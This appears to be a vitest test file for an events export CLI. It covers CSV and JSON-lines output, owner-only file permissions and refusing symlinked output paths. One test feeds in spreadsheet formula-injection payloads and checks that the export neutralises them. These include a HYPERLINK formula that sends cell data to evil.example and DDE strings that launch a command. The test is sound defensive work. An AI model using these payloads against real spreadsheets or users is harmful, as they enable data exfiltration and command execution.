import { lstat, mkdtemp, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sori } from '../../lib/providers/sori';
import { buildQueueMessage } from '../../lib/receive/build-queue-message';
import { CSV_COLUMNS } from '../../scripts/export-events';
import { soriPayload } from '../support/deliveries';
import { eventsOn } from '../support/events-cli';
import { createTestTable, localClients } from '../support/local-aws';
import { storeAndFold } from '../support/store-and-fold';

const { dynamodb } = localClients();
const RECEIVED = '2026-11-22T12:00:00.000Z';

/** `npm run events -- export …` against a table on the run's DynamoDB server; rejects as a failed run would. */
async function exportCli(tableName: string, ...args: string[]) {
  const result = await eventsOn(tableName, ['export', ...args]);
  if (result.code !== 0) throw Object.assign(new Error(result.stderr), result);
  return result;
}

/** Parses RFC 4180 CSV (quoted fields with doubled quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  return rows;
}

describe('events export', () => {
  it('writes every matching event with no row cap, as CSV with a header and one column per field, or as JSON lines', async () => {
    const { tableName, writer, counters } = await createTestTable(dynamodb);
    // 250 events over 3 days: more than query's default limit of 100.
    const messages = Array.from({ length: 250 }, (_, i) =>
      buildQueueMessage(
        sori,
        Buffer.from(
          JSON.stringify({
            ...soriPayload('impression'),
            activity_id: `act_export_${i}`,
            created_at: `2025-10-1${4 + (i % 3)}T05:00:${String(i % 60).padStart(2, '0')}.000Z`,
            metadata: { note: i === 7 ? 'a "quoted", multi\nline value' : 'plain' },
          }),
        ),
        RECEIVED,
      ),
    );
    for (let i = 0; i < messages.length; i += 50)
      await storeAndFold(writer, counters, messages.slice(i, i + 50));

    const dir = await mkdtemp(join(tmpdir(), 'export-'));
    const out = join(dir, 'events.csv');
    const { stderr } = await exportCli(tableName, '--format', 'csv', '--campaign', 'cmp_1234', '--out', out);
    expect(stderr).toContain('export: 250 rows written to');
    const rows = parseCsv(await readFile(out, 'utf8'));
    expect(rows[0]).toEqual(CSV_COLUMNS);
    expect(rows).toHaveLength(251);
    const ids = new Set(rows.slice(1).map((row) => row[0]));
    expect(ids.size).toBe(250);
    const metadata = CSV_COLUMNS.indexOf('metadata');
    expect(rows.slice(1).map((row) => JSON.parse(row[metadata] ?? 'null').note)).toContain(
      'a "quoted", multi\nline value',
    );

    const { stdout } = await exportCli(
      tableName,
      '--format',
      'jsonl',
      '--type',
      'campaign.impression',
      '--since',
      '2025-10-15',
    );
    const lines = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toHaveLength(166);
    expect(lines.every((event) => event.created_at >= '2025-10-15')).toBe(true);
  });

  it('neutralises cells a spreadsheet would run as a formula (leading =, +, -, @, tab, carriage return) with a leading quote, and leaves other cells as they came', async () => {
    const { tableName, writer, counters } = await createTestTable(dynamodb);
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"open")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-1+1',
      '\t=1+1',
      '\r=1+1',
    ];
    const benign = ['Android', 'a=b', 'x+y@z', ''];
    const messages = [...hostile, ...benign].map((value, i) =>
      buildQueueMessage(
        sori,
        Buffer.from(
          JSON.stringify({
            ...soriPayload('impression'),
            activity_id: `act_formula_${i}`,
            platform: value,
            device_id: value || 'device_plain',
            campaign: { id: 'cmp_formula', name: value },
          }),
        ),
        RECEIVED,
      ),
    );
    await storeAndFold(writer, counters, messages);

    const dir = await mkdtemp(join(tmpdir(), 'export-formula-'));
    const out = join(dir, 'events.csv');
    await exportCli(tableName, '--format', 'csv', '--campaign', 'cmp_formula', '--out', out);
    const rows = parseCsv(await readFile(out, 'utf8'));
    const column = (name: string) => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);
    const cells = (name: string) => rows.slice(1).map((row) => row[column(name)] ?? '');
    for (const name of ['platform', 'device_id', 'campaign_name']) {
      const seen = cells(name);
      for (const value of hostile) expect(seen, `${name}: ${JSON.stringify(value)}`).toContain(`'${value}`);
      for (const value of benign.filter(Boolean)) expect(seen, name).toContain(value);
      // No cell starts with a character a spreadsheet reads as the start of a formula.
      for (const cell of seen) expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
    }
    // A neutralised cell is quoted, as a cell holding a quote or a line break must be.
    const text = await readFile(out, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(text).toContain(`"'\r=1+1"`);

    // JSON lines stay exact: the values as they came.
    const { stdout } = await exportCli(tableName, '--format', 'jsonl', '--campaign', 'cmp_formula');
    const platforms = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).platform);
    for (const value of hostile) expect(platforms).toContain(value);
  });

  it('creates the export file readable by its owner only (0600), and narrows an existing one it overwrites', async () => {
    const { tableName, writer, counters } = await createTestTable(dynamodb);
    await storeAndFold(writer, counters, [
      buildQueueMessage(sori, Buffer.from(JSON.stringify(soriPayload('impression'))), RECEIVED),
    ]);
    const dir = await mkdtemp(join(tmpdir(), 'export-mode-'));
    const fresh = join(dir, 'fresh.csv');
    await exportCli(tableName, '--format', 'csv', '--campaign', 'cmp_1234', '--out', fresh);
    expect((await stat(fresh)).mode & 0o777).toBe(0o600);

    const existing = join(dir, 'existing.jsonl');
    await writeFile(existing, 'an older export, longer than the new one will be\n'.repeat(10), {
      mode: 0o644,
    });
    await exportCli(tableName, '--format', 'jsonl', '--campaign', 'cmp_1234', '--out', existing);
    expect((await stat(existing)).mode & 0o777).toBe(0o600);
    const lines = (await readFile(existing, 'utf8')).trim().split('\n');
    expect(lines.map((line) => JSON.parse(line).campaign_id)).toEqual(['cmp_1234']);
  });

  it('refuses, in one line and without writing, an --out that is a symbolic link, and leaves the file it points to as it was', async () => {
    const { tableName, writer, counters } = await createTestTable(dynamodb);
    await storeAndFold(writer, counters, [
      buildQueueMessage(sori, Buffer.from(JSON.stringify(soriPayload('impression'))), RECEIVED),
    ]);
    const dir = await mkdtemp(join(tmpdir(), 'export-link-'));
    const target = join(dir, 'precious.txt');
    await writeFile(target, 'keep me\n', { mode: 0o644 });
    for (const [name, pointsTo] of [
      ['to-a-file.csv', target],
      ['dangling.csv', join(dir, 'not-yet-there.csv')],
    ] as const) {
      const link = join(dir, name);
      await symlink(pointsTo, link);
      const result = await eventsOn(tableName, [
        'export',
        '--format',
        'csv',
        '--campaign',
        'cmp_1234',
        '--out',
        link,
      ]);
      expect(result.code, name).toBe(1);
      expect(result.stderr.trim().split('\n'), name).toEqual([
        `events: ${link} is a symbolic link: the export writes only to a file of its own (remove the link, or choose another --out)`,
      ]);
      expect((await lstat(link)).isSymbolicLink(), name).toBe(true);
    }
    expect(await readFile(target, 'utf8')).toBe('keep me\n');
    expect((await stat(target)).mode & 0o777).toBe(0o644);
    await expect(stat(join(dir, 'not-yet-there.csv'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('refuses what it cannot do: no --format, --limit, --type without --since, --since after --until', async () => {
    const { tableName } = await createTestTable(dynamodb);
    for (const args of [
      [],
      ['--format', 'xml'],
      ['--format', 'csv', '--limit', '5'],
      ['--format', 'csv', '--type', 'campaign.click'],
      ['--format', 'csv', '--since', '2025-10-16', '--until', '2025-10-14'],
    ]) {
      const failure = await exportCli(tableName, ...args).then(
        () => undefined,
        (error: { code: number; stderr: string }) => error,
      );
      expect(failure?.code, args.join(' ')).toBe(2);
      expect(failure?.stderr).toMatch(/^events: /m);
    }
  });
});
